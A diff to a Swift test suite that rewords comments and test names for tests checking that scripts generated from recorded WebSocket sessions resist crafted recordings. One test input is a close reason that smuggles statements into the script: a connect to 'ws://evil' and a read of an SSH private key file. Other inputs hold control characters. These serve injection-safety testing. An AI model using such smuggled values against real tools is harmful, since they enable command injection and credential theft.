@@ -3,7 +3,7 @@ import Testing
 
 @testable import TestScript
 
-/// Scripts from recordings that a server, or whoever sent the file, has made to do harm.
+/// Tests of scripts made from recordings that a server or a third party crafted to do harm.
 @Suite struct RecordedScriptTests {
     private static func line(_ time: String, _ fields: [(String, String)], _ rest: String = "") -> String {
         var writer = JSONObjectWriter(output: [])
@@ -30,12 +30,12 @@ import Testing
         try RecordedScript(of: try Recording.parse(Array(recording.utf8), "a.jsonl"))
     }
 
-    /// The statements that the text of a script is read as, without their values.
+    /// Returns the statements of a script, parsed from its text.
     private func steps(_ script: RecordedScript) throws -> [Step] {
         try #require(ScriptParser.tests(in: script.text, side: .client)).flatMap(\.statements).map(\.step)
     }
 
-    @Test("A reason that looks like statements becomes none")
+    @Test("A close reason that looks like statements is written as a comment")
     func reason() throws {
         let reason = "x\nconnect ws://evil\n>file /home/me/.ssh/id_ed25519\n#"
         let script = try script(Self.open() + Self.close(by: "server", reason))
@@ -50,7 +50,7 @@ import Testing
         #expect(try steps(script).count == 2)
     }
 
-    @Test("Whatever a session said, its script has a statement for each event", arguments: ScriptWriterTests.hostile)
+    @Test("A script has exactly one statement for each event", arguments: ScriptWriterTests.hostile)
     func events(text: String) throws {
         let pings = ["ping", "pong"].map { event in
             Self.line("1", [("event", event), ("direction", "sent"), ("data", text)])
@@ -69,14 +69,14 @@ import Testing
     }
 
     @Test(
-        "A URL or subprotocol that a statement cannot contain is refused",
+        "A URL or subprotocol that no statement can contain is rejected",
         arguments: ["\n> a", "\u{1B}[2J", "a  # b", " a"]
     )
     func refused(text: String) {
         for recording in [Self.open("ws://h/" + text), Self.open("ws://h/", text)] {
             #expect(throws: Recording.Invalid.self, "\(recording)") {
                 let script = try script(recording)
-                // What is accepted is read as it was recorded.
+                // Accepted text must parse as it was recorded.
                 let steps = try steps(script)
                 guard steps.contains(.connect(Template(literal: "ws://h/" + text))) else {
                     Issue.record("\(script.text)")
@@ -99,7 +99,7 @@ import Testing
         (close(by: "server", "", code: 70000), "code is 70000"), (message("up", "a"), "direction is \"up\""),
     ]
 
-    @Test("A recording that no session can have made is refused, with its line", arguments: tooMuch)
+    @Test("A recording that no session can have produced is rejected with its line", arguments: tooMuch)
     func bounds(line: String, words: String) {
         do {
             _ = try script(Self.open() + line)
@@ -112,7 +112,7 @@ import Testing
         }
     }
 
-    @Test("A code that must not be sent, and a message that is too long for a line, are refused")
+    @Test("A close code that must not be sent and a message too long for a line are rejected")
     func unwritable() {
         let long = String(repeating: "a", count: 5 << 20)
         for event in [Self.close(by: "client", "", code: 1006), Self.message("sent", long)] {
